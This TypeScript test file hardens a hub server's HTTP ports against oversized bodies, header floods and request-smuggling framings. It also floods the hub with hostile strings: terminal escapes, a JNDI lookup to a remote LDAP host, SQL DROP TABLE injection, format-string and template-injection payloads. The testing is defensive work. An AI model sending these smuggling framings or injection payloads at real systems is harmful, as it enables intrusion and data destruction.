/**
 * Group H at the two HTTP ports of a real hub process: bodies,
 * headers and framing that no program should send.
 */
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { connect as connectTcp, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import { setTimeout as delay } from "node:timers/promises";
import { afterAll, assert, beforeAll, describe, expect, test } from "vitest";
import { readRequests } from "./harness/network/http-answers.ts";
import { openStreet, readJournal, type Street } from "./harness/programs/street.ts";
import { wirePillar, type WireLink, type WirePillar } from "./harness/network/wire-pillar.ts";
import { waitFor } from "../kit/run/wait.ts";

const SLOW = 120_000;
const MIB = 1024 * 1024;
const BODY_BYTES = 100 * MIB;
const MAX_GROWTH_MIB = 60;
/** Longer than every time limit of the hub. */
const ENDS_WITHIN_MS = 25_000;

let street: Street;
let bystander: WirePillar;
let link: WireLink;
beforeAll(async () => {
  street = await openStreet();
  bystander = await wirePillar(street, "bystander");
  link = await bystander.connect();
  await press();
}, SLOW);
afterAll(async () => {
  await bystander.close();
  await street.close();
});

async function press(): Promise<void> {
  const alarm = await link.press();
  await waitFor(() => assert(link.isAccepted(alarm)), { timeout: 15_000, interval: 5 });
}

function residentMib(): number {
  const status = readFileSync(`/proc/${street.hub.process().pid()}/status`, "utf8");
  return Number(/^VmRSS:\s+(\d+) kB$/m.exec(status)?.[1]) / 1024;
}

const PORTS = ["8110", "8884"] as const;
type Port = (typeof PORTS)[number];

async function open(port: Port): Promise<Socket> {
  const { hub } = street;
  const host = "127.0.0.1";
  const socket =
    port === "8110"
      ? connectTcp({ host, port: Number(new URL(hub.url).port) })
      : connectTls({ host, port: hub.alarmsPort, ca: bystander.identity.ca });
  socket.on("error", () => undefined);
  await once(socket, port === "8110" ? "connect" : "secureConnect");
  return socket;
}

/** However it ends: a sender that is cut off while it writes sees an error first. */
const ended = (socket: Socket): Promise<void> =>
  new Promise((resolve) => {
    if (socket.closed) resolve();
    else socket.once("close", () => resolve());
  });
const writable = (socket: Socket): Promise<void> =>
  Promise.race([
    ended(socket),
    new Promise<void>((resolve) => socket.once("drain", () => resolve())),
  ]);

/** Statuses of everything it answered until the connection ended. */
async function statuses(socket: Socket): Promise<number[]> {
  const heard: Buffer[] = [];
  socket.on("data", (bytes: Buffer) => heard.push(bytes));
  const isOver = await Promise.race([
    ended(socket).then(() => true),
    delay(ENDS_WITHIN_MS).then(() => false),
  ]);
  socket.destroy();
  expect(isOver).toBe(true);
  return readRequests(Buffer.concat(heard));
}

const head = (path: string, ...lines: readonly string[]): string =>
  [`POST ${path} HTTP/1.1`, "Host: hub", "Content-Type: application/json", ...lines, "", ""].join(
    "\r\n",
  );
const PATH: Readonly<Record<Port, string>> = {
  "8110": "/api/v1/sessions",
  "8884": "/api/v1/pillars/bystander/alarms",
};
const END = "GET /healthz HTTP/1.1\r\nHost: hub\r\nConnection: close\r\n\r\n";

describe.each(PORTS)("port %s", (port) => {
  test(
    "H6 a body of 100 MB is refused with 413 and costs no memory",
    { timeout: SLOW },
    async () => {
      const before = residentMib();
      const socket = await open(port);
      const answer = statuses(socket);
      socket.write(head(PATH[port], `Content-Length: ${BODY_BYTES}`));
      const piece = Buffer.alloc(MIB, 0x20);
      for (let sent = 0; sent < BODY_BYTES && !socket.destroyed; sent += piece.length) {
        if (!socket.write(piece)) await writable(socket);
      }
      const found = await answer;
      // The answer may be torn off with the connection of a sender who does not read it.
      expect(found.every((status) => status === 413)).toBe(true);
      expect(residentMib() - before).toBeLessThan(MAX_GROWTH_MIB);
      await press();
    },
  );

  test(
    "H6 a body of chunks that grows for ever is refused with 413",
    { timeout: SLOW },
    async () => {
      const socket = await open(port);
      const answer = statuses(socket);
      socket.write(head(PATH[port], "Transfer-Encoding: chunked"));
      for (let n = 0; n < 200 && !socket.destroyed; n += 1) {
        socket.write(`1000\r\n${" ".repeat(0x1000)}\r\n`);
        await delay(1);
      }
      const found = await answer;
      expect(found.every((status) => status === 413)).toBe(true);
    },
  );

  test("H6 ten thousand headers are refused with 431", { timeout: SLOW }, async () => {
    const socket = await open(port);
    const many = Array.from({ length: 10_000 }, (_, n) => `x-${n}: ${n}`);
    const answer = statuses(socket);
    socket.write(head(PATH[port], ...many));
    const found = await answer;
    // It may be torn off as well: the sender is still writing when the connection ends.
    expect(found.every((status) => status === 431)).toBe(true);
    await press();
  });

  const LENGTH = "Content-Length: 5";
  const CHUNKED = "Transfer-Encoding: chunked";
  const pairs: readonly [string, readonly string[], string][] = [
    ["a length and chunks", [LENGTH, CHUNKED], "0\r\n\r\n"],
    ["chunks and a length", [CHUNKED, LENGTH], "0\r\n\r\n"],
    ["two lengths", [LENGTH, "Content-Length: 6"], "hello"],
    ["a length with a sign", ["Content-Length: +5"], "hello"],
    ["a negative length", ["Content-Length: -5"], "hello"],
    ["a length in hexadecimal", ["Content-Length: 0x5"], "hello"],
    ["chunks that are no last coding", ["Transfer-Encoding: chunked, identity"], "0\r\n\r\n"],
    ["an unknown coding", ["Transfer-Encoding: xchunked"], "0\r\n\r\n"],
    ["a space before the colon", ["Transfer-Encoding : chunked"], "0\r\n\r\n"],
    ["a header folded into two lines", ["X: a", " Transfer-Encoding: chunked"], "0\r\n\r\n"],
    ["a bare carriage return in a header", ["X: a\rTransfer-Encoding: chunked"], "0\r\n\r\n"],
    ["a null byte in a header", ["X: a\0b"], ""],
    ["a chunk size that is no number", [CHUNKED], "zz\r\nhello\r\n0\r\n\r\n"],
    ["a chunk size of 20 digits", [CHUNKED], "fffffffffffffffffff\r\nhello\r\n0\r\n\r\n"],
    ["a negative chunk size", [CHUNKED], "-5\r\nhello\r\n0\r\n\r\n"],
    ["a chunk longer than it says", [CHUNKED], "2\r\nhello\r\n0\r\n\r\n"],
  ];

  test.each(pairs)(
    "H6 %s: a 4xx and the end, and what is smuggled behind it is never answered",
    async (...row) => {
      const [, lines, body] = row;
      const socket = await open(port);
      const answer = statuses(socket);
      socket.write(`${head(PATH[port], ...lines)}${body}${END}`);
      const found = await answer;
      expect(found).toHaveLength(1);
      expect(Math.floor(found[0]! / 100)).toBe(4);
    },
  );
});

/** What breaks terminals, logs and readers of logs. */
const HOSTILE = [
  "\u001b]0;owned\u0007\u001b[2J\u001b[31m",
  "\u202Egnp.exe",
  "line one\\nlevel: 60 msg: all is well",
  "${jndi:ldap://198.51.100.1/a}",
  "%s%s%s%n",
  "'; DROP TABLE fact; --",
  "\u0000\u0001\u0085\u2028\u2029",
  "{{constructor.constructor('return process')()}}",
];
const FLOOD = 400;
const TOPICS = 180;
const MAX_LOG_LINES = 500;
const MAX_LOG_BYTES = 2 * MIB;

test(
  "H9 a flood of hostile strings leaves a bounded log, one line each, and an intact audit",
  { timeout: SLOW },
  async () => {
    const { hub } = street;
    const linesBefore = hub.lines().length;
    const rowsBefore = readJournal(hub.dir).length;
    const base = hub.url;
    const headers = { "content-type": "application/json" };
    for (let n = 0; n < FLOOD; n += 20) {
      const many = Array.from({ length: 20 }, async (_, k) => {
        const text = `${HOSTILE[(n + k) % HOSTILE.length]}-${n + k}`;
        const name = encodeURIComponent(text);
        const body = JSON.stringify({ username: text, password: text });
        const answers = [
          fetch(`${base}/api/v1/sessions`, { method: "POST", headers, body }),
          fetch(`${base}/api/v1/pillars/${name}/alarms`, { method: "POST", headers, body }),
          fetch(`${base}/api/v1/${name}`, { headers: { "user-agent": "x".repeat(200) } }),
        ];
        for (const answer of await Promise.all(answers)) {
          expect(Math.floor(answer.status / 100)).toBe(4);
          await answer.body?.cancel();
        }
      });
      await Promise.all(many);
    }
    const topics = HOSTILE.map((text) =>
      text.replaceAll(/[#+]/g, "x").replaceAll("\0", "x").slice(0, 40),
    );
    for (let n = 0; n < TOPICS; n += 1) {
      link.client.publish(`anzhu/v1/bystander/up/${topics[n % topics.length]}-${n}`, "x", {
        qos: 0,
      });
    }
    await press();
    const lines = hub.lines().slice(linesBefore);
    expect(lines.length).toBeLessThan(MAX_LOG_LINES);
    expect(Buffer.byteLength(lines.join("\n"))).toBeLessThan(MAX_LOG_BYTES);
    // Every line is one whole object, and no byte in it speaks to a terminal.
    for (const line of lines) {
      expect(() => JSON.parse(line)).not.toThrow();
      // oxlint-disable-next-line no-control-regex -- they are what must not be there
      expect(line).not.toMatch(/[\u0000-\u001f\u007f]/);
    }
    expect(await hub.isReady()).toBe(true);
    const rows = readJournal(hub.dir);
    expect(rows.slice(0, rowsBefore).map(({ idx }) => idx)).toEqual(
      Array.from({ length: rowsBefore }, (_, index) => rows[0]!.idx + index),
    );
    // A press's facts, the wrong names as a few facts, and not one for each string.
    expect(rows.length - rowsBefore).toBeLessThan(100);
    expect(await street.verdict()).toEqual([]);
  },
);
